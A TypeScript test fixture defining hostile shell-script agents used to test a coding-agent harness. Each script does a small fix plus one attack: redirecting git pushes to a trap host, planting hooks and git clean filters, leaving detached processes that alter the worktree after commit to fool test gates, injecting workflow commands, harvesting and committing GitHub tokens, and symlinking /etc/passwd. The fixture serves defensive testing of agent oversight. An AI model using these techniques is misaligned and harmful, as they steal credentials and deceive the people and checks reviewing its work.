import { SHELL_GIT_RETRY } from '../helpers/agents.js';

/**
 * The Action's hostile-agent corpus: one shell-script agent per attack. Each does the demo's work
 * (slice s1 fixes `add`, slice s2 adds the regression test), so only its attack stands between
 * it and a ready proof; the attack is s1's, or s2's where it is in `SECOND`. `TRAP` is a loopback listener's URL and `PIDS` a
 * directory where a background process it leaves writes its pid (the test ends it).
 */
export const ATTACKS = [
  'control',
  'redirect',
  'hook-once',
  'escapee-patch',
  'escapee-proxy',
  'workflow',
  'token',
  'link',
  'filter',
  'move-branch',
] as const;
export type Attack = (typeof ATTACKS)[number];

/** Slice s2's work: the regression test. */
export const REGRESSION_TEST = `printf '%s\\n' "test('add handles negatives', () => assert.equal(add(-2, -3), -5));" >> test/math.test.js`;

/** The script's start: s2's work (and its attack, if any) ends there; s1 goes on to the body. */
const preamble = (second: readonly string[]) => [
  '#!/bin/sh',
  SHELL_GIT_RETRY,
  'case "$OMK_TASK_ID" in',
  '  s1-*) ;;',
  '  s2-*)',
  `    ${REGRESSION_TEST}`,
  ...second.map((line) => `    ${line}`),
  '    exit 0 ;;',
  '  *) exit 0 ;;',
  'esac',
];

/** Slice s1's work: the fix of `add`. */
export const FIX = "sed -i 's/return a - b;/return a + b;/' src/math.js";

/** A process in a session of its own (out of the agent's process group), its cwd out of the worktree. */
const escapee = (pidFile: string, loop: string, args: string, prefix = '') =>
  `${prefix}setsid sh -c 'cd /; echo $$ > "PIDS/${pidFile}"; n=0; while [ $n -lt 1800 ]; do ${loop}; n=$((n+1)); sleep 0.05; done' ${args} < /dev/null > /dev/null 2>&1 &`;

const BODIES: Record<Attack, string[]> = {
  // No attack: ready and merged, so every "never" below is one the harness can see fail.
  control: [FIX],
  // Points omk's next push at the trap: a proxy and a pushInsteadOf in the shared config and in
  // the HOME's ~/.gitconfig, and the remote's own proxy.
  redirect: [
    FIX,
    'origin=$(git remote get-url origin)',
    'git config "url.TRAP/.pushInsteadOf" "$origin"',
    'git config http.proxy TRAP',
    'git config remote.origin.proxy TRAP',
    'git config --global http.proxy TRAP',
    'git config --global "url.TRAP/.insteadOf" "$origin"',
  ],
  // Plants a post-commit hook on its first attempt only, and does the work on every attempt: a
  // second attempt that behaves must not make the slice done.
  'hook-once': [
    FIX,
    'if [ "$OMK_ATTEMPT" = 1 ]; then',
    '  common=$(git rev-parse --git-common-dir)',
    `  printf '#!/bin/sh\ntouch "PIDS/hook-ran"\n' > "$common/hooks/post-commit"; chmod +x "$common/hooks/post-commit"`,
    'fi',
  ],
  // Commits a change that keeps the bug, and leaves a process that applies the fix to the worktree
  // right after omk's commit: gates run on a tree that is not the commit would pass. The process
  // works from / and drops omk's run mark, so omk's search for processes an agent left cannot
  // find it; the committed code, when the test gate loads it, waits (20 s at most, while the
  // process lives) for the patch, so the patch lands before the gates end however slowly the
  // process is scheduled: a check around the gates must see it.
  'escapee-patch': [
    `printf '%s\\n' 'const fs = await import("node:fs"); const escapee = () => { try { return process.kill(Number(fs.readFileSync("PIDS/patch.pid", "utf8")), 0); } catch { return !fs.existsSync("PIDS/patch.pid"); } }; for (const end = Date.now() + 20000; Date.now() < end && !fs.existsSync("PIDS/patched") && escapee(); ) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 50); // reviewed: add is fine as it is' >> src/math.js`,
    'wt=$(pwd); base=$(git rev-parse HEAD)',
    escapee(
      'patch.pid',
      `if [ "$(git -C "$0" rev-parse HEAD)" != "$1" ]; then sed -i "s/return a - b;/return a + b;/" "$0/src/math.js"; touch "PIDS/patched"; exit 0; fi`,
      '"$wt" "$base"',
      // Without omk's run mark in its environment (escapees.test.ts has one that keeps it).
      'env -i PATH="$PATH" ',
    ),
    // The process has left the worktree (its pid is written after its cd) before the agent ends.
    'n=0; while [ ! -s "PIDS/patch.pid" ] && [ $n -lt 400 ]; do n=$((n+1)); sleep 0.05; done',
  ],
  // Does the work, and leaves a process that keeps planting the remote's own proxy in the shared
  // config after omk has checked and restored it (it beats the http.proxy omk's git overrides).
  'escapee-proxy': [
    FIX,
    'common=$(cd "$(git rev-parse --git-common-dir)" && pwd)',
    escapee(
      'proxy.pid',
      `grep -q "TRAP" "$0/config" || printf "[remote \\"origin\\"]\\n\\tproxy = TRAP\\n" >> "$0/config"`,
      '"$common"',
    ),
  ],
  // Prints workflow commands, and makes the code under test print more and fail with one.
  workflow: [
    FIX,
    "echo '::error file=src/math.js,line=1::pwned-by-agent'",
    "echo '::add-mask::omk'",
    "echo '::set-output name=status::ready'",
    "echo '::stop-commands::pwnedpause'",
    "echo '::warning::pwned-inside-its-pause'",
    "echo '::pwnedpause::'",
    "echo '  ::error::pwned-indented'",
    `printf '%s\\n' "console.log('::error file=src/math.js,line=2::pwned-by-gate');" "console.log('::stop-commands::pwnedgate');" "console.error('src/math.js:3: pwned-annotation%0A::add-mask::leak ::error::x');" "throw new Error('::error::pwned-by-throw');" >> src/math.js`,
  ],
  // Looks for the token where actions/checkout leaves it, in its environment and in omk's stash
  // of it (a parent of the worktree), prints what it finds decoded, and commits it.
  token: [
    FIX,
    'common=$(cd "$(git rev-parse --git-common-dir)" && pwd)',
    'd=$(pwd); stash=""; while [ "$d" != / ]; do [ -d "$d/private/credentials" ] && stash="$stash $(cat "$d"/private/credentials/* 2>/dev/null)"; d=$(dirname "$d"); done',
    `found=$(printf '%s\\n' "$(cat "$common/config")" "$(env)" "$stash" | grep -o 'basic [A-Za-z0-9+/=]*' | sed 's/basic //' | base64 -d 2>/dev/null | tr -c 'A-Za-z0-9_:-' ' ')`,
    `raw=$(printf '%s\\n' "$(cat "$common/config")" "$(env)" "$stash" | grep -o 'gh[pousr]_[A-Za-z0-9_]*' | tr '\\n' ' ')`,
    'echo "found: [$found] [$raw]"',
    `printf '// found: [%s] [%s]\\n' "$found" "$raw" >> src/math.js`,
  ],
  // Replaces nothing, adds a source file that is a link to a file outside the repository.
  link: [FIX, 'ln -s /etc/passwd src/passwd.js'],
  // A clean filter in the worktree's own config.worktree (per-worktree config turned on, which the
  // shared config allows omk itself), named by a .gitattributes it adds: omk's `git add` of the
  // change would run it.
  filter: [
    FIX,
    'git config extensions.worktreeConfig true',
    `git config --worktree filter.evil.clean 'touch "PIDS/filter-ran"; cat'`,
    "echo '*.js filter=evil' > .gitattributes",
  ],
  // s1 does the work alone; its branch is moved by s2's agent (`SECOND`).
  'move-branch': [FIX],
};

/** Attacks made by the second slice's agent, which runs once the first slice is done. */
const SECOND: Partial<Record<Attack, string[]>> = {
  // Moves the first slice's finished branch to a commit of its own on top (its src/math.js gains a
  // line no review of s1 saw), which the integration would merge.
  // (A tab in grep's pattern is the tab ls-tree prints before a name.)
  'move-branch': [
    'goal=$(dirname "$(git symbolic-ref --short HEAD)")',
    'first=$(git for-each-ref --format="%(refname:short)" "refs/heads/$goal/s1-*")',
    `extra=$( (git cat-file -p "$first:src/math.js"; echo 'export const more = 1;') | git hash-object -w --stdin)`,
    `src=$( (git ls-tree "$first:src" | grep -v "\tmath.js$" || true; printf "100644 blob %s\\tmath.js\\n" "$extra") | git mktree)`,
    `tree=$( (git ls-tree "$first" | grep -v "\tsrc$"; printf "040000 tree %s\\tsrc\\n" "$src") | git mktree)`,
    'git update-ref "refs/heads/$first" "$(git commit-tree -p "$first" -m more "$tree")"',
  ],
};

const fill = (text: string, trap: string, pids: string) =>
  text.replaceAll('TRAP', trap).replaceAll('PIDS', pids);

export function agentScript(attack: Attack, trap: string, pids: string): string {
  const script = [...preamble(SECOND[attack] ?? []), ...BODIES[attack]].join('\n');
  return `${fill(script, trap, pids)}\n`;
}

/**
 * The attack's own lines, without the slice's work (for an agent that makes several attacks in one
 * run): `first` is slice s1's part, `second` s2's.
 */
export function attackLines(
  attack: Attack,
  trap: string,
  pids: string,
): { first: string[]; second: string[] } {
  const lines = (list: readonly string[]) =>
    list.filter((line) => line !== FIX).map((line) => fill(line, trap, pids));
  return { first: lines(BODIES[attack]), second: lines(SECOND[attack] ?? []) };
}
